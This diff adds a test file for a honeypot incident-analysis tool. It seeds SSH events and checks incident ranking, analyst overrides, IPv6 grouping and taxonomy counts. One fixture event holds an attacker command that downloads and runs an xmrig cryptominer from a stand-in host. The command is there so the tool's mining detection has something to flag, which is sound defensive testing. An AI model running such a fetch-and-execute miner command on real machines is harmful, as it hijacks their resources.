@@ -1,0 +1,192 @@
+/** Incidents and attacks as the pages ask for them, over what the analysis found on the real engine. */
+import assert from 'node:assert/strict';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import type { Inventory } from '@apiary/model/api/inventory.ts';
+import { Analysis } from '../analysis/analysis.ts';
+import { StateDatabase } from '../state/database.ts';
+import { makeJudgement } from '../state/judgements.ts';
+import { migrate } from '../store/schema.ts';
+import { Store } from '../store/store.ts';
+import { type Rendering, storedName } from '../store/template.ts';
+import { findAttackOf, readAttackDetail } from './attack-detail.ts';
+import { findIncidentId, listIncidents, readIncident } from './incidents.ts';
+import { countTaxonomy } from './taxonomy.ts';
+
+const inventory: Inventory = { honeynets: [], honeypots: [], sensors: [], collectors: [], known_sources: [] };
+const day_ms = Date.UTC(2026, 2, 1);
+const now_ms = day_ms + 86_400_000;
+const query = { order: 'matters', offset: 0, limit: 50 } as const;
+const hash = 'ab'.repeat(32);
+
+/** Two sources with one payload, a scanner, and one over IPv6. */
+const events = [
+  {
+    event_id: 1,
+    s: 0,
+    ip: '::ffff:203.0.113.1',
+    action: 'authenticate',
+    outcome: 'success',
+    session: 'a',
+    username: 'root',
+    password: 'x',
+  },
+  {
+    event_id: 2,
+    s: 5,
+    ip: '::ffff:203.0.113.1',
+    action: 'input',
+    session: 'a',
+    command: 'wget http://198.51.100.9/xmrig; chmod +x xmrig; ./xmrig -o stratum+tcp://198.51.100.9:3333',
+  },
+  {
+    event_id: 3,
+    s: 9,
+    ip: '::ffff:203.0.113.1',
+    action: 'download',
+    session: 'a',
+    file_sha256: hash,
+    url: 'http://198.51.100.9/xmrig',
+  },
+  {
+    event_id: 4,
+    s: 600,
+    ip: '::ffff:203.0.113.2',
+    action: 'authenticate',
+    outcome: 'success',
+    session: 'b',
+    username: 'root',
+    password: 'x',
+  },
+  {
+    event_id: 5,
+    s: 605,
+    ip: '::ffff:203.0.113.2',
+    action: 'download',
+    session: 'b',
+    file_sha256: hash,
+    url: 'http://198.51.100.9/xmrig',
+  },
+  { event_id: 6, s: 700, ip: '::ffff:203.0.113.77', action: 'probe' },
+  { event_id: 7, s: 800, ip: '2001:db8:5::1', action: 'probe' },
+  { event_id: 8, s: 801, ip: '2001:db8:5::2', action: 'probe' },
+  { event_id: 9, s: 900, ip: '::', action: 'modify' },
+];
+
+for (const rendering of ['single', 'local_shards'] as Rendering[]) {
+  describe(`incidents, ${rendering}`, () => {
+    const directory = mkdtempSync(join(tmpdir(), 'apiary-incidents-'));
+    let store: Store;
+    let state: StateDatabase;
+    before(async () => {
+      store = new Store({ directory, rendering });
+      state = new StateDatabase(':memory:');
+      await store.whenUp();
+      await migrate(store, []);
+      await store.insertRows(
+        storedName('event', rendering),
+        events.map(({ s, ip, ...event }) => ({
+          sensor_id: 1 + (event.event_id % 2),
+          sensor_type: 'test',
+          sensor_table: 'test_lines',
+          segment_id: 1,
+          place: event.event_id,
+          detect_ts: new Date(day_ms + s * 1000).toISOString().slice(0, 19).replace('T', ' '),
+          collect_ts: '2026-03-01 12:00:00',
+          target_kind: 'computer',
+          vantage: 'honeypot',
+          service: 'ssh',
+          attacker_ip: ip,
+          ...event,
+        })),
+      );
+      const scope = { pause_seconds: 3600, nets: [], gateways: [] };
+      const analysis = new Analysis({ store, state, scope: () => scope, log: () => undefined });
+      await analysis.load();
+      analysis.note(1n);
+      await analysis.pass();
+    });
+    after(async () => {
+      await store.close();
+      rmSync(directory, { recursive: true });
+    });
+
+    test('are listed with what matters first', async () => {
+      const { incidents, total } = await listIncidents(store, state, { ...query, last: '24h' }, now_ms);
+      assert.equal(total, 3);
+      const [first] = incidents;
+      assert.equal(first?.attacks, 2);
+      assert.equal(first?.sources, 2);
+      assert.equal(first?.stage, 'brought a tool');
+      assert.equal(first?.attacker, 'professional criminal');
+      assert.deepEqual(first?.objectives, ['financial gain']);
+      const far = await listIncidents(store, state, { ...query, last: '24h', stage: 'got in' }, now_ms);
+      assert.equal(far.total, 1);
+      const none = await listIncidents(store, state, { ...query, last: '24h', family: 'no such' }, now_ms);
+      assert.equal(none.total, 0);
+    });
+
+    test('one is told whole, with what links its attacks', async () => {
+      const { incidents } = await listIncidents(store, state, { ...query, last: '24h' }, now_ms);
+      const whole = await readIncident(store, state, incidents[0]!.number);
+      assert.equal(whole.attacks.length, 2);
+      const kinds = whole.attacks[1]!.links.map(({ kind }) => kind);
+      assert(kinds.includes('file') || kinds.includes('url') || kinds.includes('host'), kinds.join());
+      assert.match(whole.narrative[0]!, /2 sources made 2 attacks \(5 events\)/);
+      assert(whole.evidence.some(({ rule }) => rule === 'incident.mining'));
+      await assert.rejects(readIncident(store, state, 999), { code: 'not_found' });
+    });
+
+    test('a judgement counts before the rules, and can be taken back', async () => {
+      const { incidents } = await listIncidents(store, state, { ...query, last: '24h' }, now_ms);
+      const { number } = incidents[0]!;
+      const anchor = await findIncidentId(store, state, number);
+      makeJudgement(state, 'eva', anchor, 'attacker', 'hacker', now_ms);
+      makeJudgement(state, 'eva', anchor, 'name', 'Miner of March', now_ms);
+      const judged = await readIncident(store, state, number);
+      assert.equal(judged.incident.attacker, 'hacker');
+      assert.equal(judged.incident.name, 'Miner of March');
+      assert.equal(judged.rules.attacker, 'professional criminal');
+      makeJudgement(state, 'eva', anchor, 'attacker', '', now_ms);
+      const back = await readIncident(store, state, number);
+      assert.equal(back.incident.attacker, 'professional criminal');
+      assert.deepEqual(
+        back.judgements.map(({ actor, field, value }) => [actor, field, value]),
+        [
+          ['eva', 'attacker', 'hacker'],
+          ['eva', 'name', 'Miner of March'],
+          ['eva', 'attacker', ''],
+        ],
+      );
+    });
+
+    test('an attack has its events, of IPv6 all of its network', async () => {
+      const of_six = await findAttackOf(store, '7');
+      const six = await readAttackDetail(store, inventory, of_six!.attack_id);
+      assert.equal(six.attack.source, '2001:db8:5::/64');
+      assert.deepEqual(
+        six.events.map(({ event_id }) => event_id),
+        ['7', '8'],
+      );
+      const miner = await readAttackDetail(store, inventory, (await findAttackOf(store, '2'))!.attack_id);
+      assert.deepEqual(
+        miner.events.map(({ event_id }) => event_id),
+        ['1', '2', '3'],
+      );
+      assert(miner.attack.techniques.includes('T1496'));
+      assert(miner.evidence.every(({ weight }) => weight >= 0 && weight <= 1));
+      assert.equal(await findAttackOf(store, '9'), null);
+    });
+
+    test('the taxonomy counts every attack and incident once', async () => {
+      const { counts, unattributed } = await countTaxonomy(store, { from_ms: day_ms, to_ms: now_ms });
+      const sum = (about: string): number => Object.values(counts[about] ?? {}).reduce((a, b) => a + b, 0);
+      assert.equal(sum('tool'), 4);
+      assert.equal(sum('stage'), 4);
+      assert.equal(sum('attacker'), 3);
+      assert.equal(unattributed, 1);
+    });
+  });
+}
